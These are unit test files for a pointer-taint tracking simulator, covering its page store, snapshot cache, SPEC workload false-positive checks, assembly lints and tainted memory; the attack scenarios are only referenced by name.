        p->data[i + j] = static_cast<uint8_t>(rng());
      }
    }
    i += len;
  }
  for (auto& b : p->taint) {
    b = (rng() % 4 == 0) ? static_cast<uint8_t>(rng()) : 0;
  }
  for (auto& b : p->aprov) {
    b = (rng() % 4 == 0) ? static_cast<uint8_t>(rng() & 0xEE) : 0;
  }
  fix_summaries(*p);
  return p;
}

// ---- interning -------------------------------------------------------------

TEST(PageStore, InternDedupsIdenticalContentExactly) {
  PageStore store;
  auto a = std::make_shared<Page>();
  a->data[5] = 0xAB;
  a->taint[0] = 0x01;
  fix_summaries(*a);
  auto b = std::make_shared<Page>(*a);

  const auto [canon_a, key_a] = store.intern(a);
  const auto [canon_b, key_b] = store.intern(b);
  EXPECT_EQ(canon_a.get(), canon_b.get())
      << "identical content must share one canonical block";
  EXPECT_EQ(key_a, key_b);

  // One plane bit of difference is new content, not a dedup hit.
  auto c = std::make_shared<Page>(*a);
  c->aprov[0] = 0x02;  // stack-provenance nibble on byte 0
  fix_summaries(*c);
  const auto [canon_c, key_c] = store.intern(c);
  EXPECT_NE(canon_c.get(), canon_a.get());
  EXPECT_FALSE(key_c == key_a);

  const PageStore::Stats s = store.stats();
  EXPECT_EQ(s.canonical_pages, 2u);
  EXPECT_EQ(s.interned_refs, 3u);
  EXPECT_EQ(s.dedup_hits, 1u);
  EXPECT_EQ(s.hot_pages, 2u);
}

TEST(PageStore, UnknownKeysFailCleanly) {
  PageStore store;
  const PageStore::Key bogus{0x1234567890ABCDEFull, 0};
  EXPECT_EQ(store.fetch(bogus), nullptr);
  EXPECT_FALSE(store.pin(bogus));
}

// ---- RLE codec -------------------------------------------------------------

TEST(PageStore, RleRoundTripPreservesEveryPlaneBit) {
  // Deterministic corners first: all-zero, all-ones, every aprov nibble
  // value (the 3 provenance bits per nibble, data bit clear), a taint
  // bitmap with every byte 0xFF.
  std::vector<Page> corners(3);
  corners[1].data.fill(0xFF);
  corners[1].taint.fill(0xFF);
  corners[1].aprov.fill(0xEE);
  for (size_t i = 0; i < corners[2].aprov.size(); ++i) {
    corners[2].aprov[i] = static_cast<uint8_t>(((i % 8) * 2) |
                                               (((i / 8) % 8) * 2) << 4);
  }
  for (Page& p : corners) {
    fix_summaries(p);
    const std::vector<uint8_t> img = PageStore::compress_page(p);
    const auto q = PageStore::decompress_page(img.data(), img.size());
    ASSERT_NE(q, nullptr);
    EXPECT_TRUE(same_planes(p, *q));
  }

  std::mt19937 rng(0x5eed1);
  for (int round = 0; round < 40; ++round) {
    const auto p = random_page(rng);
    const std::vector<uint8_t> img = PageStore::compress_page(*p);
    const auto q = PageStore::decompress_page(img.data(), img.size());
    ASSERT_NE(q, nullptr) << "round " << round;
    EXPECT_TRUE(same_planes(*p, *q)) << "round " << round;
  }

  // A mostly-zero guest page must compress well (the tier's point).
  Page sparse;
  sparse.data[100] = 0x42;
  fix_summaries(sparse);
  EXPECT_LT(PageStore::compress_page(sparse).size(),
            PageStore::kPlaneBytes / 2);

  // Corrupt/truncated images fail instead of fabricating planes.
  const std::vector<uint8_t> img = PageStore::compress_page(sparse);
  EXPECT_EQ(PageStore::decompress_page(img.data(), img.size() / 2), nullptr);
  EXPECT_EQ(PageStore::decompress_page(nullptr, 0), nullptr);
}

// ---- tiers -----------------------------------------------------------------

TEST(PageStore, RandomizedRoundTripsAcrossAllTiers) {
  // Property test: dedup + compression + the disk tier must preserve every
  // data byte and every taint/provenance bit of every interned page.
  std::mt19937 rng(0x5eed2);
  std::vector<std::pair<PageStore::Key, Page>> interned;
  const auto intern_corpus = [&](PageStore& store) {
    interned.clear();
    std::mt19937 corpus_rng(0x5eed2);
    for (int i = 0; i < 24; ++i) {
      auto p = random_page(corpus_rng);
      const Page copy = *p;
      const auto [canon, key] = store.intern(std::move(p));
      interned.emplace_back(key, copy);
      if (i % 3 == 0) {  // re-intern a duplicate of the same content
        const auto [dup, dup_key] = store.intern(std::make_shared<Page>(copy));
        EXPECT_EQ(dup_key, key);
      }
    }
  };
  const auto fetch_all = [&](PageStore& store, const char* what) {
    for (const auto& [key, original] : interned) {
      const auto fetched = store.fetch(key);
      ASSERT_NE(fetched, nullptr) << what;
      EXPECT_TRUE(same_planes(original, *fetched)) << what;
    }
  };

  {
    // Memory-only store: hot tier, then the compressed-image tier. Without a
    // disk dir every eviction must go through RLE, so decompressions are
    // deterministic here.
    PageStore store;
    intern_corpus(store);
    fetch_all(store, "hot tier");
    store.drop_caches(/*compressed_images=*/false);
    fetch_all(store, "compressed tier");
    const PageStore::Stats s = store.stats();
    EXPECT_GT(s.decompressions, 0u);
    EXPECT_GT(s.dedup_hits, 0u);
  }

  {
    // Disk-backed store: flush the write-behind queue, drop both in-memory
    // tiers, and prove every page round-trips through its page file.
    const std::string dir = make_temp_dir();
    {
      PageStore::Config config;
      config.disk_dir = dir;
      PageStore store(std::move(config));
      intern_corpus(store);
      store.flush();
      EXPECT_GT(store.stats().disk_pages, 0u);
      store.drop_caches(/*compressed_images=*/false);
      store.drop_caches(/*compressed_images=*/true);
      fetch_all(store, "disk tier");
      const PageStore::Stats s = store.stats();
      EXPECT_GT(s.disk_reads, 0u);
      EXPECT_GT(s.dedup_hits, 0u);
    }
    std::filesystem::remove_all(dir);
  }
}

TEST(PageStore, BlocksSharedWithLiveSnapshotsAreNeverDropped) {
  PageStore store;
  auto p = std::make_shared<Page>();
  p->data[0] = 0x7F;
  fix_summaries(*p);
  const auto [canon, key] = store.intern(p);  // `canon` is a live outside ref
  store.drop_caches(/*compressed_images=*/false);
  // The store was not the only owner, so the block must still be hot and
  // fetch must return the very same object, not an inflated copy.
  EXPECT_EQ(store.fetch(key).get(), canon.get());
  EXPECT_EQ(store.stats().evictions, 0u);
}

TEST(PageStore, DiskTierSurvivesRestart) {
  const std::string dir = make_temp_dir();
  std::mt19937 rng(0x5eed3);
  std::vector<std::pair<PageStore::Key, Page>> interned;
  {
    PageStore::Config config;
    config.disk_dir = dir;
    PageStore store(std::move(config));
    for (int i = 0; i < 8; ++i) {
      auto p = random_page(rng);
      const Page copy = *p;
      const auto [canon, key] = store.intern(std::move(p));
      interned.emplace_back(key, copy);
    }
    store.flush();
  }  // "process exit"

  PageStore::Config config;
  config.disk_dir = dir;
  PageStore revived(std::move(config));
  EXPECT_EQ(revived.stats().disk_pages, interned.size())
      << "the startup scan must register every page file";
  EXPECT_EQ(revived.stats().hot_pages, 0u) << "nothing is loaded eagerly";
  for (const auto& [key, original] : interned) {
    EXPECT_TRUE(revived.pin(key)) << "keys are stable across restarts";
    const auto fetched = revived.fetch(key);
    ASSERT_NE(fetched, nullptr);
    EXPECT_TRUE(same_planes(original, *fetched));
  }
  EXPECT_EQ(revived.stats().disk_reads, interned.size());
  std::filesystem::remove_all(dir);
}

// ---- concurrency (runs under the TSan leg) ---------------------------------

TEST(PageStore, ConcurrentInternFetchEvictStress) {
  PageStore::Config config;
  config.hot_page_budget = 8;  // force eviction churn
  PageStore store(std::move(config));

  constexpr int kThreads = 8;
  constexpr int kIters = 200;
  constexpr int kContents = 32;
  auto content = [](int c) {
    auto p = std::make_shared<Page>();
    p->data[0] = static_cast<uint8_t>(c);
    p->data[4000] = static_cast<uint8_t>(c * 7);
    p->taint[c % p->taint.size()] = 0x81;
    p->aprov[c % p->aprov.size()] = 0x22;
    fix_summaries(*p);
    return p;
  };

  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      std::mt19937 rng(t);
      std::vector<PageStore::Key> pinned;
      for (int i = 0; i < kIters; ++i) {
        const int c = static_cast<int>(rng() % kContents);
        const auto [canon, key] = store.intern(content(c));
        EXPECT_EQ(canon->data[0], static_cast<uint8_t>(c));
        pinned.push_back(key);
        if (rng() % 4 == 0) {
          const auto fetched = store.fetch(key);
          ASSERT_NE(fetched, nullptr);
          EXPECT_EQ(fetched->data[4000], static_cast<uint8_t>(c * 7));
        }
        if (rng() % 8 == 0) store.evict_cold();
        if (pinned.size() > 16) {
          store.release(pinned.back());
          pinned.pop_back();
        }
      }
      for (const PageStore::Key& key : pinned) store.release(key);
    });
  }
  for (std::thread& t : threads) t.join();

  const PageStore::Stats s = store.stats();
  EXPECT_EQ(s.interned_refs, static_cast<uint64_t>(kThreads) * kIters);
  EXPECT_LE(s.canonical_pages, static_cast<uint64_t>(kContents));
  for (int c = 0; c < kContents; ++c) {
    const auto [canon, key] = store.intern(content(c));
    EXPECT_TRUE(same_planes(*content(c), *canon));
    store.release(key);
  }
}

// ---- snapshot dehydrate/hydrate --------------------------------------------

std::string fingerprint(const core::RunReport& r) {
  std::ostringstream ss;
  ss << static_cast<int>(r.stop) << "|" << r.exit_status << "|"
     << (r.alert ? r.alert_line() : "-") << "|" << r.alert_function << "|"
     << r.cpu_stats.instructions << "|" << r.tainted_memory_bytes << "|"
     << r.stdout_text;
  return ss.str();
}

MachineSnapshot build_attack_snapshot(core::AttackId id) {
  return core::make_scenario(id)->prepare_attack({})->snapshot();
}

TEST(PageStore, SnapshotRoundTripRunsIdentically) {
  MachineSnapshot snap = build_attack_snapshot(core::AttackId::kExp1Stack);
  std::string reference;
  {
    core::Machine m;
    m.restore(snap);
    reference = fingerprint(m.run());
  }

  PageStore store;
  const auto stored = core::dehydrate_snapshot(snap, store);
  ASSERT_TRUE(stored.has_value());
  EXPECT_FALSE(stored->pages.empty());
  EXPECT_FALSE(stored->meta.empty());

  // The blob codec round-trips the key and every page reference.
  const std::vector<uint8_t> blob =
      core::encode_stored_snapshot("some/cache key", *stored);
  const auto decoded = core::decode_stored_snapshot(blob);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(decoded->first, "some/cache key");
  EXPECT_EQ(decoded->second.pages, stored->pages);
  EXPECT_EQ(decoded->second.meta, stored->meta);
  std::vector<uint8_t> torn(blob.begin(), blob.begin() + blob.size() / 2);
  EXPECT_FALSE(core::decode_stored_snapshot(torn).has_value());

  // Hydrate (hot, then from compressed images) and replay.
  for (int tier = 0; tier < 2; ++tier) {
    if (tier == 1) {
      snap = MachineSnapshot{};  // the store must own the blocks to drop
      store.drop_caches(/*compressed_images=*/false);
    }
    const auto hydrated = core::hydrate_snapshot(*stored, store);
    ASSERT_TRUE(hydrated.has_value());
    core::Machine m;
    m.restore(*hydrated);
    EXPECT_EQ(fingerprint(m.run()), reference) << "tier " << tier;
  }
}

TEST(PageStore, PipelineSnapshotsAreNotDehydratable) {
  core::MachineConfig cfg;
  cfg.pipeline_model = true;
  core::Machine m(cfg);
  m.load_source(".text\n_start:\n  li $v0, 1\n  li $a0, 0\n  syscall\n");
  MachineSnapshot snap = m.snapshot();
  PageStore store;
  EXPECT_FALSE(core::dehydrate_snapshot(snap, store).has_value());
}

// ---- store-backed SnapshotCache --------------------------------------------

TEST(SnapshotCacheStore, RehydratesLruEvictedEntriesWithoutRebuilding) {
  campaign::StoreOptions options;
  options.enabled = true;
  options.hot_snapshots = 1;
  campaign::SnapshotCache cache(options);

  int builds_a = 0, builds_b = 0;
  const auto build_a = [&] {
    ++builds_a;
    return build_attack_snapshot(core::AttackId::kExp1Stack);
  };
  const auto build_b = [&] {
    ++builds_b;
    return build_attack_snapshot(core::AttackId::kExp2Heap);
  };

  std::string reference;
  {
    const auto snap = cache.get("a", build_a);
    core::Machine m;
    m.restore(*snap);
    reference = fingerprint(m.run());
  }
  cache.get("b", build_b);  // evicts "a" to its dehydrated form

  const auto again = cache.get("a", build_a);
  EXPECT_EQ(builds_a, 1) << "rehydration must not re-invoke the builder";
  EXPECT_EQ(builds_b, 1);
  {
    core::Machine m;
    m.restore(*again);
    EXPECT_EQ(fingerprint(m.run()), reference);
  }

  // A second key with an identical boot interns the same page contents:
  // the store's cross-key dedup, the reason it exists.
  const uint64_t canonical_before = cache.stats().store.canonical_pages;
  int builds_twin = 0;
  cache.get("a-twin", [&] {
    ++builds_twin;
    return build_attack_snapshot(core::AttackId::kExp1Stack);
  });
  EXPECT_EQ(builds_twin, 1);

  const campaign::SnapshotCache::Stats s = cache.stats();
  EXPECT_TRUE(s.store_enabled);
  EXPECT_EQ(s.builds, 3u);
  EXPECT_EQ(s.misses, 3u);
  EXPECT_GE(s.hits, 1u);
  EXPECT_GE(s.rehydrations, 1u);
  EXPECT_GE(s.dehydrations, 1u);
  EXPECT_EQ(s.stored_snapshots, 3u);
  EXPECT_GT(s.store.canonical_pages, 0u);
  EXPECT_EQ(s.store.canonical_pages, canonical_before)
      << "an identical boot must dedup into the existing canonical pages";
  EXPECT_GT(s.store.dedup_hits, 0u);
}

TEST(SnapshotCacheStore, DiskRestartServesWarmKeysWithoutRebuilding) {
  const std::string dir = make_temp_dir();
  campaign::StoreOptions options;
  options.enabled = true;
  options.disk_dir = dir;

  std::string reference;
  {
    campaign::SnapshotCache cache(options);
    const auto snap = cache.get("exp1", [] {
      return build_attack_snapshot(core::AttackId::kExp1Stack);
    });
    core::Machine m;
    m.restore(*snap);
    reference = fingerprint(m.run());
    cache.flush_disk();
  }  // "process exit" — one live cache per directory at a time

  {
    campaign::SnapshotCache cache(options);
    bool rebuilt = false;
    const auto snap = cache.get("exp1", [&] {
      rebuilt = true;
      return build_attack_snapshot(core::AttackId::kExp1Stack);
    });
    EXPECT_FALSE(rebuilt) << "a warm disk tier must not rebuild";
    const campaign::SnapshotCache::Stats s = cache.stats();
    EXPECT_EQ(s.builds, 0u);
    EXPECT_EQ(s.misses, 0u);
    EXPECT_EQ(s.hits, 1u);
    EXPECT_EQ(s.disk_rehydrations, 1u);
    EXPECT_GT(s.store.disk_pages, 0u);
    core::Machine m;
    m.restore(*snap);
    EXPECT_EQ(fingerprint(m.run()), reference);
  }
  std::filesystem::remove_all(dir);
}

TEST(SnapshotCacheStore, HitAndMissCountersFeedTheReportedRate) {
  campaign::StoreOptions options;
  options.enabled = true;
  campaign::SnapshotCache cache(options);
  const auto build = [] {
    return build_attack_snapshot(core::AttackId::kExp1Stack);
  };
  cache.get("k", build);
  cache.get("k", build);
  cache.get("k", build);
  const campaign::SnapshotCache::Stats s = cache.stats();
  EXPECT_EQ(s.misses, 1u);
  EXPECT_EQ(s.hits, 2u);
  // hits / (hits + misses) is what --time and the serve status report.
  EXPECT_NEAR(static_cast<double>(s.hits) / (s.hits + s.misses), 2.0 / 3.0,
              1e-9);
}

}  // namespace
}  // namespace ptaint
