// Table 3 reproduction tests: the six SPEC surrogates must run to
// completion over fully tainted input without a single alert, while
// tainted data demonstrably flows through their kernels.
#include <gtest/gtest.h>

#include "core/spec_workloads.hpp"

namespace ptaint::core {
namespace {

class SpecWorkloads : public ::testing::TestWithParam<int> {};

TEST_P(SpecWorkloads, RunsCleanUnderFullTaintPolicy) {
  auto workloads = make_spec_workloads(/*scale=*/1);
  const auto& w = workloads.at(GetParam());
  SpecRunRow row = run_spec_workload(w);
  EXPECT_TRUE(row.ok) << w.name << " output: " << row.output;
  EXPECT_FALSE(row.alert) << w.name << " raised a false positive";
  // The input really was tainted and really flowed through the kernel.
  EXPECT_GT(row.input_bytes, 0u);
  EXPECT_GT(row.tainted_loads, 0u) << w.name;
  EXPECT_GT(row.instructions, 10'000u) << w.name;
}

TEST_P(SpecWorkloads, DeterministicAcrossRuns) {
  auto workloads = make_spec_workloads(1);
  const auto& w = workloads.at(GetParam());
  SpecRunRow a = run_spec_workload(w);
  SpecRunRow b = run_spec_workload(w);
  EXPECT_EQ(a.output, b.output);
  EXPECT_EQ(a.instructions, b.instructions);
}

INSTANTIATE_TEST_SUITE_P(AllSix, SpecWorkloads, ::testing::Range(0, 6));

TEST(SpecWorkloadsMeta, SixBenchmarksMatchingTable3) {
  auto workloads = make_spec_workloads(1);
  ASSERT_EQ(workloads.size(), 6u);
  EXPECT_EQ(workloads[0].name, "BZIP2");
  EXPECT_EQ(workloads[1].name, "GCC");
  EXPECT_EQ(workloads[2].name, "GZIP");
  EXPECT_EQ(workloads[3].name, "MCF");
  EXPECT_EQ(workloads[4].name, "PARSER");
  EXPECT_EQ(workloads[5].name, "VPR");
}

TEST(SpecWorkloadsMeta, ScaleGrowsInput) {
  auto small = make_spec_workloads(1);
  auto big = make_spec_workloads(4);
  for (size_t i = 0; i < small.size(); ++i) {
    EXPECT_GE(big[i].input.size(), small[i].input.size());
  }
}

TEST(SpecAblation, CompareUntaintRuleIsLoadBearing) {
  // DESIGN.md §5 ablation 1: without the compare-untaint compatibility
  // rule, validated input indices stay tainted and benign table lookups
  // false-positive.  PARSER (hash % prime -> bound check -> bucket index)
  // is the canonical victim.
  auto workloads = make_spec_workloads(1);
  cpu::TaintPolicy strict;
  strict.compare_untaints = false;
  SpecRunRow row = run_spec_workload(workloads.at(4), strict);  // PARSER
  EXPECT_TRUE(row.alert)
      << "expected a (false) alert once validation no longer untaints";
}

}  // namespace
}  // namespace ptaint::core
