// Tests for the classic lints (src/analysis/lint.cpp): each rule gets a
// positive (finding fires) and a negative (clean code stays clean) case,
// plus the alternate-entry and custom-convention escapes the guest runtime
// relies on.
#include <gtest/gtest.h>

#include <algorithm>

#include "analysis/cfg.hpp"
#include "analysis/lint.hpp"
#include "guest/runtime.hpp"

namespace ptaint::analysis {
namespace {

std::vector<LintFinding> lint(const std::string& text) {
  const asmgen::Program program = asmgen::assemble(text);
  const Cfg cfg(program);
  return run_lints(cfg);
}

bool has(const std::vector<LintFinding>& findings, LintKind kind) {
  return std::any_of(findings.begin(), findings.end(),
                     [&](const LintFinding& f) { return f.kind == kind; });
}

// Minimal exiting scaffold so programs terminate explicitly.
constexpr const char* kExit = "  li $v0, 1\n  li $a0, 0\n  syscall\n";

// ---- use-before-def --------------------------------------------------------

TEST(LintUseBeforeDef, ReadingTemporaryBeforeWriteFires) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  addu $t1, $t0, $t0\n") +
                             kExit);
  ASSERT_TRUE(has(findings, LintKind::kUseBeforeDef));
  EXPECT_NE(findings[0].message.find("$t0"), std::string::npos);
}

TEST(LintUseBeforeDef, WrittenThenReadIsClean) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  li $t0, 5\n"
                                         "  addu $t1, $t0, $t0\n") +
                             kExit);
  EXPECT_FALSE(has(findings, LintKind::kUseBeforeDef));
}

TEST(LintUseBeforeDef, ArgumentAndSavedRegistersAreEntryDefined) {
  // $a0-$a3, $s0-$s7, $sp, $ra arrive with caller values — no finding.
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  addu $t0, $a0, $s3\n"
                                         "  addu $t1, $sp, $fp\n") +
                             kExit);
  EXPECT_FALSE(has(findings, LintKind::kUseBeforeDef));
}

TEST(LintUseBeforeDef, CallDefinesResultRegisters) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal helper\n"
                                         "  addu $t0, $v0, $v1\n") +
                             kExit + "helper:\n  li $v0, 7\n  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kUseBeforeDef));
}

TEST(LintUseBeforeDef, ReadingHiBeforeMultFires) {
  const auto findings =
      lint(std::string(".text\n_start:\n  mfhi $t0\n") + kExit);
  EXPECT_TRUE(has(findings, LintKind::kUseBeforeDef));
}

// ---- unreachable blocks ----------------------------------------------------

TEST(LintUnreachable, CodeAfterUnconditionalJumpFires) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  j done\n"
                                         "  addiu $t0, $t0, 1\n"
                                         "  addiu $t0, $t0, 2\n"
                                         "done:\n") +
                             kExit);
  EXPECT_TRUE(has(findings, LintKind::kUnreachableBlock));
}

TEST(LintUnreachable, AllReachableIsClean) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  beq $a0, $zero, done\n"
                                         "  addiu $a0, $a0, -1\n"
                                         "done:\n") +
                             kExit);
  EXPECT_FALSE(has(findings, LintKind::kUnreachableBlock));
}

TEST(LintUnreachable, UnusedLabeledRoutineIsNotDeadCode) {
  // A never-called routine (its own label region) is an unused library
  // function, not dead code — including its unlabeled interior blocks.
  const auto findings = lint(std::string(".text\n_start:\n") + kExit +
                             "unused_helper:\n"
                             "  beq $a0, $zero, uh_done\n"
                             "  addiu $a0, $a0, -1\n"
                             "uh_done:\n"
                             "  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kUnreachableBlock));
}

TEST(LintUnreachable, PaddingAfterExitIsClean) {
  const auto findings = lint(std::string(".text\n_start:\n") + kExit +
                             "  nop\n  nop\n  break\n");
  EXPECT_FALSE(has(findings, LintKind::kUnreachableBlock));
}

// ---- stack imbalance -------------------------------------------------------

TEST(LintStackImbalance, PushWithoutPopFires) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal leaky\n") +
                             kExit +
                             "leaky:\n"
                             "  addiu $sp, $sp, -16\n"
                             "  sw $ra, 12($sp)\n"
                             "  lw $ra, 12($sp)\n"
                             "  jr $ra\n");
  ASSERT_TRUE(has(findings, LintKind::kStackImbalance));
  for (const LintFinding& f : findings) {
    if (f.kind != LintKind::kStackImbalance) continue;
    EXPECT_NE(f.message.find("-16"), std::string::npos) << f.message;
    EXPECT_EQ(f.function, "leaky");
  }
}

TEST(LintStackImbalance, BalancedFrameIsClean) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal ok\n") +
                             kExit +
                             "ok:\n"
                             "  addiu $sp, $sp, -16\n"
                             "  sw $ra, 12($sp)\n"
                             "  lw $ra, 12($sp)\n"
                             "  addiu $sp, $sp, 16\n"
                             "  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kStackImbalance));
}

TEST(LintStackImbalance, NonConstantAdjustmentDegradesToUnknown) {
  // Computed $sp adjustments cannot be tracked; no false report.
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal vla\n") +
                             kExit +
                             "vla:\n"
                             "  subu $sp, $sp, $a0\n"
                             "  addu $sp, $sp, $a0\n"
                             "  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kStackImbalance));
}

// ---- clobbered callee-saved ------------------------------------------------

TEST(LintClobberedCalleeSaved, UnspilledSRegisterFires) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal f\n") +
                             kExit +
                             "f:\n"
                             "  li $s0, 1\n"
                             "  jr $ra\n");
  ASSERT_TRUE(has(findings, LintKind::kClobberedCalleeSaved));
  for (const LintFinding& f : findings) {
    if (f.kind != LintKind::kClobberedCalleeSaved) continue;
    EXPECT_NE(f.message.find("$s0"), std::string::npos) << f.message;
  }
}

TEST(LintClobberedCalleeSaved, SpilledSRegisterIsClean) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal f\n") +
                             kExit +
                             "f:\n"
                             "  addiu $sp, $sp, -8\n"
                             "  sw $s0, 4($sp)\n"
                             "  li $s0, 1\n"
                             "  lw $s0, 4($sp)\n"
                             "  addiu $sp, $sp, 8\n"
                             "  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kClobberedCalleeSaved));
}

TEST(LintClobberedCalleeSaved, NonReturningFunctionOwnsEveryRegister) {
  // _start never returns: it may use s-registers freely.
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  li $s5, 1\n") +
                             kExit);
  EXPECT_FALSE(has(findings, LintKind::kClobberedCalleeSaved));
}

TEST(LintClobberedCalleeSaved, DunderHelpersOptOut) {
  // "__"-prefixed internal helpers use custom conventions (__pf_putc keeps
  // the printf count in $s5, spilled by its caller).
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal __helper\n") +
                             kExit +
                             "__helper:\n"
                             "  addiu $s5, $s5, 1\n"
                             "  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kClobberedCalleeSaved));
}

// ---- analysis-opaque -------------------------------------------------------

TEST(LintAnalysisOpaque, ComputedJumpFires) {
  // `jr $t0` is not a return: the CFG assumes fanout over every labeled
  // block, which is exactly where summary precision degrades.
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  la $t0, hop\n"
                                         "  jr $t0\n"
                                         "hop:\n") +
                             kExit);
  ASSERT_TRUE(has(findings, LintKind::kAnalysisOpaque));
  const auto it = std::find_if(
      findings.begin(), findings.end(),
      [](const LintFinding& f) { return f.kind == LintKind::kAnalysisOpaque; });
  EXPECT_NE(it->message.find("computed jump"), std::string::npos);
}

TEST(LintAnalysisOpaque, IndirectCallFires) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  la $t0, f\n"
                                         "  jalr $t0\n") +
                             kExit + "f:\n  jr $ra\n");
  ASSERT_TRUE(has(findings, LintKind::kAnalysisOpaque));
}

TEST(LintAnalysisOpaque, DirectCallsAndReturnsAreClean) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal f\n") +
                             kExit + "f:\n  jr $ra\n");
  EXPECT_FALSE(has(findings, LintKind::kAnalysisOpaque));
}

TEST(LintAnalysisOpaque, IsInfoLevelNotAnError) {
  EXPECT_TRUE(lint_is_info(LintKind::kAnalysisOpaque));
  EXPECT_FALSE(lint_is_info(LintKind::kUseBeforeDef));
}

// ---- formatting & corpus ---------------------------------------------------

TEST(LintFormat, FindingLineCarriesPcKindAndFunction) {
  const auto findings = lint(std::string(".text\n_start:\n"
                                         "  jal f\n") +
                             kExit + "f:\n  li $s0, 1\n  jr $ra\n");
  ASSERT_FALSE(findings.empty());
  const std::string text = format_findings(findings);
  EXPECT_NE(text.find("clobbered-callee-saved"), std::string::npos);
  EXPECT_NE(text.find("[in f]"), std::string::npos);
}

TEST(LintCorpus, GuestRuntimeLintsClean) {
  // The shipped runtime must stay lint-clean — the CI step runs
  // ptaint-lint over every guest app and fails on findings.
  std::vector<asmgen::Source> units = guest::runtime();
  units.push_back({"main.s", ".text\nmain:\n  li $v0, 0\n  jr $ra\n"});
  const asmgen::Program program = asmgen::assemble(units);
  const Cfg cfg(program);
  const auto findings = run_lints(cfg);
  EXPECT_TRUE(findings.empty()) << format_findings(findings);
}

}  // namespace
}  // namespace ptaint::analysis
