// Unit tests for the tainted memory subsystem: per-byte taint storage,
// endianness, taint gather/scatter, register file, and the cache model.
#include <gtest/gtest.h>

#include "mem/cache.hpp"
#include "mem/register_file.hpp"
#include "mem/tainted_memory.hpp"

namespace ptaint::mem {
namespace {

TEST(TaintedWordType, Basics) {
  TaintedWord w{0x64636261, 0x5};
  EXPECT_TRUE(w.tainted());
  EXPECT_TRUE(byte_tainted(w.taint, 0));
  EXPECT_FALSE(byte_tainted(w.taint, 1));
  EXPECT_TRUE(byte_tainted(w.taint, 2));
  EXPECT_EQ(TaintedWord(7).taint, kUntainted);
}

TEST(Memory, UnmappedReadsZeroUntainted) {
  TaintedMemory m;
  EXPECT_EQ(m.load_word(0x10000000).value, 0u);
  EXPECT_EQ(m.load_word(0x10000000).taint, kUntainted);
  EXPECT_EQ(m.mapped_pages(), 0u);
}

TEST(Memory, WordRoundTripLittleEndian) {
  TaintedMemory m;
  m.store_word(0x10000000, TaintedWord{0x64636261});
  EXPECT_EQ(m.load_byte(0x10000000).value, 0x61);  // 'a' at lowest address
  EXPECT_EQ(m.load_byte(0x10000003).value, 0x64);
  EXPECT_EQ(m.load_word(0x10000000).value, 0x64636261u);
}

TEST(Memory, TaintTravelsPerByte) {
  TaintedMemory m;
  m.store_word(0x20000000, TaintedWord{0xaabbccdd, 0b0110});
  EXPECT_FALSE(m.load_byte(0x20000000).tainted());
  EXPECT_TRUE(m.load_byte(0x20000001).tainted());
  EXPECT_TRUE(m.load_byte(0x20000002).tainted());
  EXPECT_FALSE(m.load_byte(0x20000003).tainted());
  EXPECT_EQ(m.load_word(0x20000000).taint, 0b0110);
}

TEST(Memory, UnalignedWordGathersTaintInByteOrder) {
  TaintedMemory m;
  m.store_byte(0x1000, {0x11, false});
  m.store_byte(0x1001, {0x22, true});
  m.store_byte(0x1002, {0x33, false});
  m.store_byte(0x1003, {0x44, true});
  m.store_byte(0x1004, {0x55, true});
  // A word loaded at 0x1001 sees bytes 0x22,0x33,0x44,0x55.
  const TaintedWord w = m.load_word(0x1001);
  EXPECT_EQ(w.value, 0x55443322u);
  EXPECT_EQ(w.taint, 0b1101);
}

TEST(Memory, HalfAccess) {
  TaintedMemory m;
  m.store_half(0x3000, TaintedWord{0xbc20, 0b01});
  EXPECT_EQ(m.load_half(0x3000).value, 0xbc20u);
  EXPECT_EQ(m.load_half(0x3000).taint, 0b01);
  EXPECT_EQ(m.load_byte(0x3000).value, 0x20);
  EXPECT_TRUE(m.load_byte(0x3000).tainted());
  EXPECT_FALSE(m.load_byte(0x3001).tainted());
}

TEST(Memory, CrossPageAccess) {
  TaintedMemory m;
  const uint32_t addr = TaintedMemory::kPageSize - 2;  // straddles a page
  m.store_word(addr, TaintedWord{0xdeadbeef, 0b1010});
  EXPECT_EQ(m.load_word(addr).value, 0xdeadbeefu);
  EXPECT_EQ(m.load_word(addr).taint, 0b1010);
  EXPECT_EQ(m.mapped_pages(), 2u);
}

TEST(Memory, BlockWriteAndTaintSweep) {
  TaintedMemory m;
  const std::vector<uint8_t> data{'s', 'i', 't', 'e'};
  m.write_block(0x5000, data, /*tainted=*/true);
  EXPECT_TRUE(m.any_tainted_in(0x5000, 4));
  EXPECT_EQ(m.tainted_byte_count(), 4u);
  EXPECT_EQ(m.read_block(0x5000, 4), data);
  m.set_taint(0x5000, 4, false);  // validation / RT-register untaint
  EXPECT_FALSE(m.any_tainted_in(0x5000, 4));
  EXPECT_EQ(m.read_block(0x5000, 4), data);  // data unchanged
}

TEST(Memory, ReadCString) {
  TaintedMemory m;
  const std::string s = "site exec";
  m.write_block(0x6000, {reinterpret_cast<const uint8_t*>(s.data()), s.size()},
                false);
  m.store_byte(0x6000 + 9, {0, false});
  EXPECT_EQ(m.read_cstring(0x6000), "site exec");
  EXPECT_EQ(m.read_cstring(0x6000, 4), "site");  // bounded
}

TEST(RegisterFileTaint, ZeroIsHardwired) {
